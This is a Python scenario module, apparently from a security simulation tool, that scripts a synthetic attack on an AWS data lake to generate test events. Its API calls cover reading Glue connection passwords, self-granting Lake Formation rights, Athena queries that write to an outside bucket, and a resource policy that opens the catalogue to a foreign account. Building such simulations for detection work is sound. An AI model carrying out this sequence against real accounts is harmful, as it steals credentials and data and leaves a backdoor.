"""The data lake is asked to write itself into somebody else's bucket."""

from __future__ import annotations

import json

from vedette.simulate import ids
from vedette.simulate.intrusions._cast import address, look, script
from vedette.simulate.stage import Stage, Story


def tell(stage: Stage) -> None:
    """Tell how the catalogue is read, rights on it are granted, and queries write to a foreign bucket."""
    person = stage.person("DataAnalyst", "PowerUser")
    thief = stage.portal(person, address(stage, "cloud"), script(stage))
    account, foreign = stage.account.id, stage.foreign_account()
    stage.facts.update(ip=thief.ip, person=person.name, foreign=foreign)
    stage.scene("Discovery", "T1526", "catalogue of the data lake read")
    stage.pace = (0.5, 5)
    look(stage, thief, "sts:GetCallerIdentity", "athena:ListWorkGroups", "athena:ListDataCatalogs", "glue:GetDatabases")
    for database in ("sales", "customers", "ledger", "support"):
        stage.do(thief, "glue:GetTables", {"databaseName": database})
    look(stage, thief, "lakeformation:GetDataLakeSettings", "lakeformation:ListPermissions")
    stage.scene("Credential Access", "T1552", "passwords of the catalogue's connections read")
    stage.do(thief, "glue:GetConnections", {"hidePassword": False})
    stage.do(thief, "glue:GetConnection", {"name": "ledger-replica", "hidePassword": False}, denied=True)
    stage.wait(10, 60)
    stage.pace = (10, 60)
    stage.scene("Privilege Escalation", "T1098", "rights on the data lake granted to oneself")
    me = {"dataLakePrincipalIdentifier": thief.identity["sessionContext"]["sessionIssuer"]["arn"]}
    settings = {"dataLakeSettings": {"dataLakeAdmins": [me]}}
    stage.do(thief, "lakeformation:PutDataLakeSettings", settings, denied=True)
    table = {"table": {"databaseName": "customers", "tableWildcard": {}}}
    stage.do(thief, "lakeformation:GrantPermissions", {"principal": me, "resource": table, "permissions": ["SELECT"]})
    stage.scene("Exfiltration", "T1537", "query results written to a foreign bucket")
    output = f"s3://kx-unload-{ids.hexadecimal(stage.rng, 6)}/q/"
    for number, name in enumerate(("customers.accounts", "customers.addresses", "sales.orders", "ledger.entries")):
        asked = {
            "queryString": "HIDDEN_DUE_TO_SECURITY_REASONS",
            "workGroup": "primary",
            "resultConfiguration": {"outputLocation": f"{output}{number}"},
            "queryExecutionContext": {"database": name.partition(".")[0]},
        }
        made = {"queryExecutionId": ids.uuid(stage.rng)}
        stage.do(thief, "athena:StartQueryExecution", asked, made, read=False)
        for _ in range(3):
            stage.do(thief, "athena:GetQueryExecution", made)
    stage.scene("Persistence", "T1537", "catalogue shared with a foreign account")
    statement = {
        "Effect": "Allow",
        "Principal": {"AWS": f"arn:aws:iam::{foreign}:root"},
        "Action": "glue:*",
        "Resource": f"arn:aws:glue:{stage.region}:{account}:*",
    }
    policy = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
    stage.do(thief, "glue:PutResourcePolicy", {"policyInJson": policy, "enableHybrid": "TRUE"})


STORY = Story(
    name="lake-theft",
    title="The data lake writes itself into a foreign bucket",
    text=(
        "In the session of {person}, used from {ip}, the catalogue of {account} is read from end to end. Rights are "
        "granted, four large queries leave their results in a bucket that is not ours, and the catalogue is shared "
        "with account {foreign}."
    ),
    hours=6,
    tell=tell,
)
